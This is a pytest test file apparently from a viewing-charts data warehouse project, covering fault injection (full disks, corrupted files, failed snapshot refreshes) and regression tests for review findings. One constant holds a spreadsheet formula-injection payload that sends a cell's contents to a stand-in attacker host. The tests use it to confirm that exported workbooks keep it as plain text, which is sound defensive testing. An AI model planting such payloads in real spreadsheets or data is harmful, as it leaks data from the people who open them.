"""Trust under faults (issue 16): each finding's regression test, named after it, and the
fault-injection suite: a full disk, damaged files, killed importers and a server whose
snapshot refresh fails, each ending with a consistent warehouse and a server that answers."""

from __future__ import annotations

import datetime as dt
import io
import tempfile
import warnings
import zipfile
from pathlib import Path
from typing import Any, Iterator

import openpyxl
import pytest
from starlette.exceptions import StarletteDeprecationWarning

from viewrank import Warehouse, compute_charts, ingest_file
from viewrank.rollup.daily import rollup
from viewrank.formats.workbook import FIXED_TIME, write_engagement_workbook
from viewrank.web import create_app
from viewrank.web import downloads

from builders import EVENT_FIELDS, build_warehouse, film, plays, write_csv
from faults import fill, small_disk

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

WEEK = "2026-11-15"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def small_warehouse(root: Path, *, title: str = "Alpha", count: int = 3) -> Warehouse:
    return build_warehouse(root, titles=[film("A", title)], events=plays("A", day="2026-11-10", count=count),
                           weeks=[WEEK])


def hours(client: TestClient) -> float:
    response = client.get(f"/api/weeks/{WEEK}/global")
    assert response.status_code == 200, response.text
    return sum(entry["hours_viewed"] for lst in response.json()["lists"] for entry in lst["entries"])


# -- finding 2: a failed snapshot refresh ---------------------------------------------------

def test_snapshot_refresh_failing_on_a_full_temporary_folder_heals(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    small_warehouse(tmp_path).close()
    with small_disk(tmp_path / "tmp", "64m") as disk:
        monkeypatch.setattr(tempfile, "tempdir", str(disk))
        app = create_app(tmp_path / "warehouse", cache_entries=0)
        client = TestClient(app)
        before = hours(client)
        ballast = fill(disk, leave=16_384)
        with Warehouse(tmp_path / "warehouse") as warehouse:
            ingest_file(warehouse, write_csv(tmp_path / "more.csv", EVENT_FIELDS,
                                             plays("A", day="2026-11-11", count=2, prefix="more")))
            rollup(warehouse)
            compute_charts(warehouse)
        for _ in range(3):  # every refresh fails on the full disk: the previous snapshot answers
            assert hours(client) == before
        assert sorted(p.name for p in next(disk.glob("viewrank-serve-*")).iterdir()) == ["snapshot-1.duckdb"]
        ballast.unlink()
        assert hours(client) == before + 2  # the next refresh after the space came back succeeds
        app.state.reader.close()


# -- finding 7: the response cache ----------------------------------------------------------

def test_response_cache_keyed_on_junk_query_parameters_stays_bounded(tmp_path: Path) -> None:
    small_warehouse(tmp_path).close()
    app = create_app(tmp_path / "warehouse")
    client = TestClient(app)
    cache = app.state.reader.cache
    first = client.get(f"/api/weeks/{WEEK}/global").content
    for n in range(200):
        assert client.get(f"/api/weeks/{WEEK}/global?junk={n}&utm_source=x{n}").content == first
    assert len(cache) == 1
    # The parameters a route reads still tell answers apart (the last of a repeated one counts).
    assert client.get(f"/api/weeks/{WEEK}/global?category=tv-english").content != \
        client.get(f"/api/weeks/{WEEK}/global?category=films-english").content
    assert client.get(f"/api/weeks/{WEEK}/global?category=films-english&junk=1").content == \
        client.get(f"/api/weeks/{WEEK}/global?category=films-english").content
    assert len(cache) == 3 and cache.cached_bytes == sum(map(len, cache._bodies.values()))
    cache.max_bytes = len(first) * 2   # bounded by bytes as well as by entries
    for path in ("/api/titles", "/api/countries", "/api/weeks"):
        client.get(path)
    assert cache.cached_bytes <= cache.max_bytes
    app.state.reader.close()


def test_every_query_parameter_the_site_reads_is_part_of_the_cache_key() -> None:
    import re
    from viewrank.web.http import QUERY_PARAMETERS
    web = Path(__file__).resolve().parents[1] / "src" / "viewrank" / "web"
    read = {name for path in web.glob("*.py")
            for name in re.findall(r'query_params\.(?:get|getlist)\("(\w+)"\)', path.read_text())}
    assert read == set(QUERY_PARAMETERS)


# -- finding 4: formula injection; finding 12: XLSX bytes between publishes ----------------

def workbook_cells(body: bytes) -> list[tuple[Any, str]]:
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return [(cell.value, cell.data_type) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def no_formulas(body: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_formula_injection_title_is_text_in_every_workbook(tmp_path: Path) -> None:
    download = downloads.encode(("show_title", "weekly_rank"), [(HYPERLINK, "1"), ("+1-2", "2")], "xlsx", sheet="global")
    assert (HYPERLINK, "s") in workbook_cells(download) and ("+1-2", "s") in workbook_cells(download)
    assert no_formulas(download)
    report = {"period": {"from": dt.date(2026, 1, 1), "to": dt.date(2026, 6, 30)},
              "covered": {"complete": True, "from": dt.date(2026, 1, 1), "to": dt.date(2026, 6, 30)},
              "sheets": {"Film": [{"title": HYPERLINK, "available_globally": True, "release_date": None,
                                   "hours_shown": 100, "runtime_shown": "1:30", "views_shown": 60}]}}
    write_engagement_workbook(tmp_path / "report.xlsx", report)
    body = (tmp_path / "report.xlsx").read_bytes()
    assert (HYPERLINK, "s") in workbook_cells(body) and no_formulas(body)


def test_formula_injection_title_is_text_in_the_server_and_site_downloads(tmp_path: Path) -> None:
    small_warehouse(tmp_path, title=HYPERLINK).close()
    app = create_app(tmp_path / "warehouse")
    body = TestClient(app).get("/downloads/all-weeks-global.xlsx").content
    assert (HYPERLINK, "s") in workbook_cells(body) and no_formulas(body)
    app.state.reader.close()


def test_xlsx_bytes_do_not_depend_on_the_clock(tmp_path: Path) -> None:
    download = downloads.encode(("show_title",), [("Alpha",)], "xlsx", sheet="global")
    with zipfile.ZipFile(io.BytesIO(download)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {FIXED_TIME.timetuple()[:6]}
        core = archive.read("docProps/core.xml")
        assert b'W3CDTF">2000-01-01T00:00:00Z</dcterms:modified>' in core, core
    assert downloads.encode(("show_title",), [("Alpha",)], "xlsx", sheet="global") == download


# -- finding 12: the server's temporary folder and slow request headers ---------------------

def test_serve_removes_its_temporary_folder_on_ctrl_c_and_drops_slow_headers(tmp_path: Path) -> None:
    import os
    import signal
    import socket
    import subprocess
    import sys
    import time

    import httpx
    small_warehouse(tmp_path).close()
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-m", "viewrank", "serve", "--warehouse", str(tmp_path / "warehouse"),
                               "--port", str(port), "--header-timeout", "1"],
                              env={**os.environ, "TMPDIR": str(temporary)}, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/api/weeks", timeout=10).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert time.monotonic() < deadline and server.poll() is None, "the server did not start"
            time.sleep(0.2)
        assert [p.name[:14] for p in temporary.iterdir()] == ["viewrank-serve"]
        with socket.create_connection(("127.0.0.1", port)) as slow:
            slow.sendall(b"GET /api/weeks HTTP/1.1\r\nHost: x\r\n")   # and never the blank line
            slow.settimeout(15)
            started = time.monotonic()
            assert slow.recv(1024) == b""           # closed by the server, no answer
            assert time.monotonic() - started < 10
        assert httpx.get(f"http://127.0.0.1:{port}/api/weeks", timeout=10).status_code == 200
    finally:
        server.send_signal(signal.SIGINT)
        server.wait(timeout=30)
    assert list(temporary.iterdir()) == []


# -- finding 8: size limits on imported cells and quarantined rows --------------------------

def test_size_limit_on_an_imported_cell_names_the_limit(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from viewrank.cli import cli
    Warehouse.init(tmp_path / "w").close()
    lines = (Path(__file__).parent / "fixtures" / "netflix-top10" / "all-weeks-global_slice.tsv").read_text().split("\n")
    fields = lines[2].split("\t")
    fields[3] = "N" * 300_000
    (tmp_path / "all-weeks-global.tsv").write_text("\n".join([lines[0], lines[1], "\t".join(fields)]))
    result = CliRunner().invoke(cli, ["import", "netflix-top10", str(tmp_path / "all-weeks-global.tsv"),
                                      "--warehouse", str(tmp_path / "w")])
    assert result.exit_code == 1
    assert result.output == (f"Error: {tmp_path / 'all-weeks-global.tsv'} row 3 column 'show_title': a cell of "
                             "300,000 characters; the limit is 10,000 (is this the right file?)\n")
    with Warehouse(tmp_path / "w") as warehouse:
        assert warehouse.scalar("SELECT count(*) FROM titles") == 0


def test_size_limit_on_a_quarantined_row(tmp_path: Path) -> None:
    warehouse = small_warehouse(tmp_path)
    huge = plays("A", day="2026-11-10", count=1, prefix="huge")[0] | {"title_id": "X" * 100_000}
    report = ingest_file(warehouse, write_csv(tmp_path / "huge.csv", EVENT_FIELDS, [huge]))
    assert report.rows_quarantined == 1
    reason, raw = warehouse.execute("SELECT reason, raw FROM quarantine").fetchone()  # type: ignore[misc]
    assert len(reason) == len(raw) == 4_096 + len("… (cut at 4,096 characters)")
    assert reason.startswith("unknown title_id XXX") and raw.endswith("… (cut at 4,096 characters)")


# -- finding 12: a JSON Lines file with a byte-order mark -----------------------------------

def test_jsonl_with_a_byte_order_mark_keeps_its_first_row(tmp_path: Path) -> None:
    import json
    warehouse = small_warehouse(tmp_path)
    rows = plays("A", day="2026-11-12", count=2, prefix="bom")
    (tmp_path / "bom.jsonl").write_bytes(b"\xef\xbb\xbf" + "\n".join(json.dumps(row) for row in rows).encode())
    report = ingest_file(warehouse, tmp_path / "bom.jsonl")
    assert (report.rows_read, report.rows_loaded, report.rows_quarantined) == (2, 2, 0)


# -- finding 6: repairable rollups; finding 11: check finds damaged parts --------------------

def figures(warehouse: Warehouse) -> dict[str, Any]:
    """Every figure a chart is made of, to compare a repaired warehouse with a clean one."""
    # Edition ids are left out: a transaction rolled back still uses up sequence values.
    return {name: warehouse.execute(f"SELECT * {exclude} FROM {name} ORDER BY ALL").fetchall()
            for name, exclude in (("daily_rollup", ""), ("weekly_rollup", ""), ("current_entries", "EXCLUDE (edition_id)"))
            } | {"editions": warehouse.execute("SELECT week, scope, revision FROM editions ORDER BY ALL").fetchall()}


def two_day_warehouse(root: Path) -> Warehouse:
    return build_warehouse(root, titles=[film("A", "Alpha"), film("B", "Beta")],
                           events=plays("A", day="2026-11-10", count=3) + plays("B", day="2026-11-11", count=2)
                           + plays("A", day="2026-11-11", count=1, country="FR"), weeks=[WEEK])


def run_cli(*args: str) -> Any:
    from click.testing import CliRunner

    from viewrank.cli import cli
    return CliRunner().invoke(cli, list(args))


@pytest.mark.parametrize("kind", ["daily", "weekly"])
@pytest.mark.parametrize("fault", ["deleted", "truncated", "overwritten"])
def test_repairable_rollups_a_damaged_part_is_recomputed_by_rollup(tmp_path: Path, kind: str, fault: str) -> None:
    from faults import damage
    from viewrank.store.integrity import check
    warehouse = two_day_warehouse(tmp_path)
    clean = figures(warehouse)
    (path,) = [p for (p,) in warehouse.execute(
        "SELECT path FROM rollup_parts WHERE kind = ? ORDER BY period LIMIT 1", [kind]).fetchall()]
    warehouse.close()
    part = tmp_path / "warehouse" / path
    if fault == "deleted":
        part.unlink()
    elif fault == "truncated":
        part.write_bytes(part.read_bytes()[:-20])
    else:
        damage(part, offset=0, length=8)
    root = str(tmp_path / "warehouse")
    found = run_cli("check", "--warehouse", root)
    assert found.exit_code == 1 and path in found.output and "Traceback" not in found.output
    deep = run_cli("check", "--deep", "--warehouse", root)
    assert deep.exit_code == 1 and path in deep.output and deep.exception is None or isinstance(deep.exception, SystemExit)
    repaired = run_cli("rollup", "--warehouse", root)
    assert repaired.exit_code == 0, repaired.output
    assert f"The {kind} rollup part of " in repaired.output and "recomputed from the events" in repaired.output
    assert run_cli("charts", "--warehouse", root).exit_code == 0
    with Warehouse(root) as after:
        assert figures(after) == clean       # the same figures, and no new revision of the week
        assert check(after, deep=True) == []


def test_repairable_rollups_rollup_full_rebuilds_around_a_missing_part(tmp_path: Path) -> None:
    from viewrank.store.integrity import check
    warehouse = two_day_warehouse(tmp_path)
    clean = figures(warehouse)
    for (path,) in warehouse.execute("SELECT path FROM rollup_parts").fetchall():
        (tmp_path / "warehouse" / path).unlink()
    warehouse.close()
    assert run_cli("rollup", "--full", "--warehouse", str(tmp_path / "warehouse")).exit_code == 0
    with Warehouse(tmp_path / "warehouse") as after:
        assert figures(after) == clean and check(after, deep=True) == []


@pytest.mark.parametrize("fault", ["truncated", "overwritten"])
def test_check_finds_a_damaged_event_part_and_deep_check_reports_it(tmp_path: Path, fault: str) -> None:
    from faults import damage
    two_day_warehouse(tmp_path).close()
    root = tmp_path / "warehouse"
    part = sorted((root / "events").rglob("*.parquet"))[0]
    if fault == "truncated":
        part.write_bytes(part.read_bytes()[: part.stat().st_size // 2])
    else:
        damage(part, offset=-6, length=6)
    for deep in ([], ["--deep"]):
        result = run_cli("check", *deep, "--warehouse", str(root), "--json")
        assert result.exit_code == 1 and result.exception is None or isinstance(result.exception, SystemExit)
        assert "damaged event parts" in result.output and part.relative_to(root).as_posix() in result.output
    for args in (["verify", WEEK], ["rollup", "--full"]):   # each says which part, never a traceback
        result = run_cli(*args, "--warehouse", str(root))
        assert result.exit_code == 1 and result.output.startswith("Error: ") and len(result.output.splitlines()) == 1, \
            (args, result.output)


# -- finding 5: import viewing-activity in one transaction: killed at every step in
# tests/test_faults_kills.py, with every other importer

# -- finding 9: publish with title ids that end like files ----------------------------------

@pytest.mark.slow
def test_publish_title_ids_ending_in_svg_js_json(tmp_path: Path) -> None:
    from viewrank.web.static_site import publish_site
    ids = ["logo.svg", "app.js", "data.json", "notes.txt"]
    warehouse = build_warehouse(tmp_path, titles=[film(i, f"Film {n}") for n, i in enumerate(ids)],
                                events=[e for n, i in enumerate(ids) for e in plays(i, day="2026-11-10", count=n + 1)],
                                weeks=[WEEK])
    report = publish_site(warehouse, tmp_path / "site")
    site = tmp_path / "site"
    for title_id in ids:
        assert (site / "titles" / f"{title_id}.html").is_file()
        assert (site / "titles" / title_id / "factsheet.html").is_file()
    week_page = (site / "weeks" / f"{WEEK}.html").read_text()
    assert 'href="../titles/logo.svg.html"' in week_page
    assert report.downloads and (site / "downloads" / "all-weeks-global.xlsx").is_file()


# -- finding 10: complete weeks and catalog changes ------------------------------------------

def test_complete_week_rules_an_event_dated_tomorrow_publishes_no_open_week(tmp_path: Path) -> None:
    days = [f"2026-11-{d:02d}" for d in range(9, 17)]            # Monday 9th to Monday 16th
    warehouse = build_warehouse(tmp_path, titles=[film("A", "Alpha")],
                                events=[e for day in days for e in plays("A", day=day, count=2)], weeks=[])
    utc = dt.timezone.utc
    # Sunday evening, the last day of the week of the 15th not over yet; one event is dated tomorrow.
    assert compute_charts(warehouse, now=dt.datetime(2026, 11, 15, 22, tzinfo=utc)).weeks == []
    # The week has ended, but the grace period for late deliveries (6 hours) has not.
    assert compute_charts(warehouse, now=dt.datetime(2026, 11, 16, 5, tzinfo=utc)).weeks == []
    report = compute_charts(warehouse, now=dt.datetime(2026, 11, 16, 7, tzinfo=utc))
    assert report.weeks == [dt.date(2026, 11, 15)]   # and not the week of the 22nd from Monday alone
    assert warehouse.scalar("SELECT count(*) FROM editions WHERE week = '2026-11-22'") == 0


def test_complete_week_rules_grace_period_is_a_setting(tmp_path: Path) -> None:
    warehouse = build_warehouse(tmp_path, titles=[film("A", "Alpha")], settings={"week_close_grace_hours": 30},
                                events=[e for d in range(9, 17) for e in plays("A", day=f"2026-11-{d:02d}")], weeks=[])
    utc = dt.timezone.utc
    assert compute_charts(warehouse, now=dt.datetime(2026, 11, 17, 5, tzinfo=utc)).weeks == []
    assert compute_charts(warehouse, now=dt.datetime(2026, 11, 17, 7, tzinfo=utc)).weeks == [dt.date(2026, 11, 15)]


def test_catalog_change_marks_the_weeks_it_affects_stale(tmp_path: Path) -> None:
    from builders import TITLE_FIELDS
    from viewrank import import_catalog
    titles = [film("A", "Alpha", runtime=7200), film("B", "Beta", runtime=3600)]
    events = [e for day in ("2026-11-09", "2026-11-22")
              for e in plays("A", day=day, count=3, seconds=3600) + plays("B", day=day, count=4, seconds=1800)]
    warehouse = build_warehouse(tmp_path, titles=titles, events=events, weeks=None)
    assert compute_charts(warehouse).weeks == []     # nothing changed: nothing recomputed
    views = "SELECT title_key, views FROM current_entries WHERE scope = 'global' AND week = ? ORDER BY rank"
    assert warehouse.execute(views, ["2026-11-15"]).fetchall() == [(2, 2.0), (1, 1.5)]
    # A runtime correction of Alpha (2 hours -> 1 hour) changes its views in both weeks.
    import_catalog(warehouse, write_csv(tmp_path / "fix.csv", TITLE_FIELDS,
                                        [film("A", "Alpha", runtime=3600), film("B", "Beta", runtime=3600)]))
    assert sorted(warehouse.execute("SELECT week FROM stale_weeks").fetchall()) == [
        (dt.date(2026, 11, 15),), (dt.date(2026, 11, 22),)]
    report = compute_charts(warehouse)
    assert report.weeks == [dt.date(2026, 11, 15), dt.date(2026, 11, 22)] and report.new_editions
    assert warehouse.execute(views, ["2026-11-15"]).fetchall() == [(1, 3.0), (2, 2.0)]
    assert warehouse.execute("SELECT count(*) FROM stale_weeks").fetchall() == [(0,)]
    # Reloading the same catalog changes nothing and marks nothing.
    import_catalog(warehouse, write_csv(tmp_path / "same.csv", TITLE_FIELDS,
                                        [film("A", "Alpha", runtime=3600), film("B", "Beta", runtime=3600)]))
    assert compute_charts(warehouse).weeks == []


# -- finding 12: publish does not lock writers out -----------------------------------------

@pytest.mark.slow
def test_publish_does_not_lock_writers_out_for_its_whole_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from viewrank.web import static_site
    small_warehouse(tmp_path).close()
    written: list[str] = []
    original = static_site._write_file

    def write_and_meanwhile_ingest(root: Path, relative: str, body: bytes, report: Any) -> None:
        if not written:  # a writer while the site is being written
            with Warehouse(tmp_path / "warehouse") as writer:
                ingest_file(writer, write_csv(tmp_path / "late.csv", EVENT_FIELDS,
                                              plays("A", day="2026-11-12", count=1, prefix="late")))
        written.append(relative)
        original(root, relative, body, report)

    monkeypatch.setattr(static_site, "_write_file", write_and_meanwhile_ingest)
    result = run_cli("publish", "--site", str(tmp_path / "site"), "--warehouse", str(tmp_path / "warehouse"), "--silent")
    assert result.exit_code == 0, result.output
    with Warehouse(tmp_path / "warehouse") as warehouse:
        assert warehouse.scalar("SELECT count(*) FROM ingested_files") == 2


# -- the fault-injection suite: a full disk at every write of each step ----------------------

DISK_STEPS = ("ingest", "rollup", "charts", "publish")
# What check says of days whose new events are not rolled up yet: work to do, not damage.
PENDING_ROLLUP = ("rolled-up days that no longer match their event parts",
                  "daily rollups whose sessions differ from their day's events")


def disk_scenario(root: Path) -> tuple[Path, Path]:
    """A warehouse with one week charted, and a second file of events (late data, a new week)."""
    warehouse = build_warehouse(root, titles=[film("A", "Alpha"), film("B", "Beta", language="ko")],
                                events=[e for d in range(9, 16) for e in plays("A", day=f"2026-11-{d:02d}", count=3)
                                        + plays("B", day=f"2026-11-{d:02d}", count=2, country="KR")], weeks=None)
    warehouse.close()
    second = write_csv(root / "second.csv", EVENT_FIELDS,
                       plays("B", day="2026-11-14", count=5, prefix="late", country="KR")
                       + [e for d in range(16, 23) for e in plays("A", day=f"2026-11-{d:02d}", count=2, prefix=f"n{d}")])
    return root / "warehouse", second


def run_step(step: str, warehouse: Path, second: Path, site: Path) -> Any:
    args = {"ingest": ["ingest", str(second)], "rollup": ["rollup"], "charts": ["charts"],
            "publish": ["publish", "--site", str(site)]}[step]
    return run_cli(*args, "--warehouse", str(warehouse), *(["--silent"] if step in ("ingest", "rollup", "publish") else []))


def disk_figures(warehouse: Path, site: Path) -> dict[str, Any]:
    import hashlib
    with Warehouse(warehouse, read_only=True) as opened:
        found = figures(opened) | {
            "manifest": opened.execute("SELECT sha256, rows_loaded, rows_duplicate FROM ingested_files ORDER BY ALL").fetchall(),
            "events": opened.execute("SELECT day, sum(rows) FROM event_files GROUP BY day ORDER BY day").fetchall()}
    # Every file of the site, and the bytes of every download (pages show when editions were made).
    found["site"] = sorted((p.relative_to(site).as_posix(), hashlib.sha256(p.read_bytes()).hexdigest()
                            if p.relative_to(site).parts[0] == "downloads" else None)
                           for p in site.rglob("*") if p.is_file()) if site.exists() else []
    return found


@pytest.mark.slow
@pytest.mark.parametrize("step", DISK_STEPS)
def test_disk_full_at_every_write_of_a_step_then_rerun_equals_a_clean_run(tmp_path: Path, step: str,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil
    from viewrank.store.integrity import check
    base, second = disk_scenario(tmp_path / "base")
    # The clean run: every step to the end, on an ordinary disk.
    clean_root = tmp_path / "clean"
    shutil.copytree(base, clean_root / "warehouse")
    for each in DISK_STEPS:
        assert run_step(each, clean_root / "warehouse", second, clean_root / "site").exit_code == 0
    clean = disk_figures(clean_root / "warehouse", clean_root / "site")
    # How much the step writes, measured on a disk with room, decides where the disk fills up.
    with small_disk(tmp_path / "disk", "256m") as disk:
        monkeypatch.setattr(tempfile, "tempdir", str(disk / "tmp"))
        (disk / "tmp").mkdir()
        shutil.copytree(base, disk / "warehouse")
        for each in DISK_STEPS[:DISK_STEPS.index(step)]:
            assert run_step(each, disk / "warehouse", second, disk / "site").exit_code == 0
        state = tmp_path / "before"
        shutil.copytree(disk, state, ignore=shutil.ignore_patterns("tmp"))
        used = lambda: sum(p.stat().st_size for p in disk.rglob("*") if p.is_file())  # noqa: E731
        before = used()
        assert run_step(step, disk / "warehouse", second, disk / "site").exit_code == 0
        written = max(used() - before, 64_000)
    failures = 0
    for leave in sorted({0, 4_096, 16_384, *range(32_768, written + 1, max(written // 8, 4_096))}):
        with small_disk(tmp_path / "disk", "256m") as disk:
            (disk / "tmp").mkdir()
            for item in state.iterdir():
                (shutil.copytree if item.is_dir() else shutil.copy2)(item, disk / item.name)
            ballast = fill(disk, leave=leave)
            result = run_step(step, disk / "warehouse", second, disk / "site")
            if result.exit_code:
                failures += 1
                lines = result.output.strip().splitlines()
                assert result.exit_code == 1 and len(lines) == 1 and lines[0].startswith("Error: "), (leave, result.output)
                assert "disk is full" in lines[0] or "No space left" in lines[0], (leave, lines[0])
            ballast.unlink()
            with Warehouse(disk / "warehouse") as opened:   # consistent as it stands, before any rerun
                assert [p["check"] for p in check(opened) if p["check"] not in PENDING_ROLLUP] == [], leave
            for each in DISK_STEPS[DISK_STEPS.index(step):]:
                rerun = run_step(each, disk / "warehouse", second, disk / "site")
                assert rerun.exit_code == 0, (leave, each, rerun.output)
            after = disk_figures(disk / "warehouse", disk / "site")
            assert set(after["site"]) ^ set(clean["site"]) == set(), leave
            assert after == clean, leave
            with Warehouse(disk / "warehouse") as opened:
                assert check(opened, deep=True) == [], leave
    assert failures, f"the disk never filled up during {step}"


# -- corrupt bytes in the database file ------------------------------------------------------

@pytest.mark.parametrize("offset", [270_000, 600_000, -300_000])
def test_corrupt_database_block_is_one_error_line_and_the_server_keeps_answering(tmp_path: Path, offset: int) -> None:
    from faults import damage
    small_warehouse(tmp_path).close()
    root = tmp_path / "warehouse"
    app = create_app(root, cache_entries=0)
    client = TestClient(app)
    before = hours(client)
    database = root / "viewrank.duckdb"
    damage(database, offset=offset, length=4_096)
    database.touch()
    for args in (["check"], ["check", "--deep"], ["charts"], ["rollup", "--full"], ["facts", "Alpha"]):
        result = run_cli(*args, "--warehouse", str(root))
        assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exception)
        if result.exit_code:
            lines = result.output.strip().splitlines()
            assert result.exit_code == 1 and lines[-1].startswith("Error: ") or "could not be read" in result.output, \
                (args, result.output)
    assert hours(client) == before       # answered from the snapshot taken before the damage
    app.state.reader.close()
